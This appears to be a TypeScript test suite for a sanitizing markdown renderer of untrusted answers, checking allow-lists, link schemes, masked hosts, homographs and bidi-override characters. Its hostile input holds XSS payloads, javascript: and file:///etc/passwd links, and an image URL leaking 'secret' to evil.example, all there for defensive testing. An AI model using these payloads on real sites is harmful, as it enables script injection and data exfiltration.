import assert from 'node:assert/strict';
import { render } from './render.ts';

const hrefs = (root: HTMLElement): (string | null)[] =>
  [...root.querySelectorAll('a')].map((a) => a.getAttribute('href'));

const ALLOWED_ELEMENTS =
  /^(?:div|p|h[1-6]|ul|ol|li|blockquote|hr|br|pre|code|span|bdi|strong|em|s|a|table|thead|tbody|tr|th|td|input|button)$/;
const ALLOWED_ATTRIBUTES =
  /^(?:class|href|title|start|type|disabled|checked|role|tabindex|aria-(?:label|hidden|pressed)|data-(?:host|char|align|language|action))$/;

describe('An answer that nobody vouches for', () => {
  const hostile = [
    '<script>alert(1)</script><img src=x onerror=alert(1)>',
    '<iframe srcdoc="x"></iframe>\n\n<style>*{}</style>\n\n<a href="command:x">x</a>',
    '![x](https://evil.example/?q=secret) ![][r]\n\n[r]: data:image/png;base64,AAAA "t"',
    '[a](javascript:alert(1)) [b](command:workbench.x) [c](data:text/html,x) [d](vscode://x) [e](file:///etc/passwd)',
    '<javascript:alert(1)> <command:x> [f](<java\nscript:x>) [g](JaVaScRiPt&colon;alert(1)) [h](//evil.example)',
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    '| <b>x</b> | `<i>` |\n|--|--|\n| [x](javascript:x) | <u> |',
    '- [ ] <svg/onload=alert(1)>\n# <math>\n> <object data=x>',
    '[x](https://a.example "\\"><script>") &lt;script&gt;',
    '```html\n<script src="https://evil.example"></script>\n```',
  ].join('\n\n');

  it('becomes none but the known elements and attributes, at every moment', () => {
    for (const size of [1, 7, 1e6]) {
      const root = render(...(hostile.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? []));
      for (const element of root.querySelectorAll('*')) {
        assert.match(element.localName, ALLOWED_ELEMENTS);
        for (const { name } of element.attributes) assert.match(name, ALLOWED_ATTRIBUTES);
      }
      assert.deepEqual(hrefs(root), ['https://evil.example/?q=secret', 'https://a.example']);
    }
  });

  it('links to http, https and mail only', () => {
    const root = render(
      '[a](https://e.org) [b](HTTP://e.org) [c](mailto:me@e.org) [d](ftp://e.org) [e](src/a.ts) [f](https:)',
    );
    assert.deepEqual(hrefs(root), ['https://e.org', 'HTTP://e.org', 'mailto:me@e.org']);
    assert.equal(root.textContent, 'a b c d e f');
    assert.equal(root.querySelectorAll('.unlinked')[1]?.getAttribute('title'), 'src/a.ts');
  });

  it('links to what begins with www. where a word begins, and to no other name with a dot', () => {
    const root = render('www.e.org/a (www.e.org), ./www.e.org awww.e.org e.org main.rs', ' **www.', 'x.org**');
    assert.deepEqual(hrefs(root), ['http://www.e.org/a', 'http://www.e.org', 'http://www.x.org']);
  });

  it('cannot name one host and lead to another unseen', () => {
    const masks: Record<string, string | undefined> = {
      '[https://bank.example/login](https://evil.example)': 'evil.example',
      '[www.bank.example](https://evil.example)': 'evil.example',
      '[see bank.example](https://bank.example.evil.example/)': 'bank.example.evil.example',
      '<https://bank.example@evil.example/>': 'evil.example',
      '[me@bank.example](mailto:me@evil.example)': 'evil.example',
      '[**bank**.example](http://evil.example)': 'evil.example',
      '[https://b\u0430nk.example](https://b\u0430nk.example)': 'xn--bnk-6cd.example',
      '[https://bank.example/a](https://bank.example/b)': undefined,
      '[bank.example](https://www.bank.example/)': undefined,
      '[the bank](https://evil.example)': undefined,
      'https://bank.example/x.html': undefined,
    };
    for (const [text, host] of Object.entries(masks)) {
      const link = render(text).querySelector('a');
      assert.equal(link?.dataset['host'], host, text);
    }
  });

  it('loads no image: its text is a link to it', () => {
    const root = render('![a chart](https://e.org/c.png) [![inside](https://e.org/i.png)](https://e.org)');
    assert.equal(root.querySelector('img'), null);
    assert.equal(root.textContent, 'a chart inside');
    assert.equal(root.querySelector('a a'), null);
  });

  it('shows what turns the reading direction, and keeps it in', () => {
    const code = 'if (admin\u202E \u2066// x\u2069 \u2066) {';
    for (const text of [`\`\`\`js\n${code}\n\`\`\``, code, `\`${code}\``]) {
      for (const size of [1, 1e6]) {
        const root = render(...(text.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? []));
        assert.equal(root.querySelectorAll('bdi.bidi').length, 4);
        assert.equal(root.querySelector('bdi')?.dataset['char'], 'U+202E');
        assert.equal(root.textContent.trim(), code);
      }
    }
  });
});
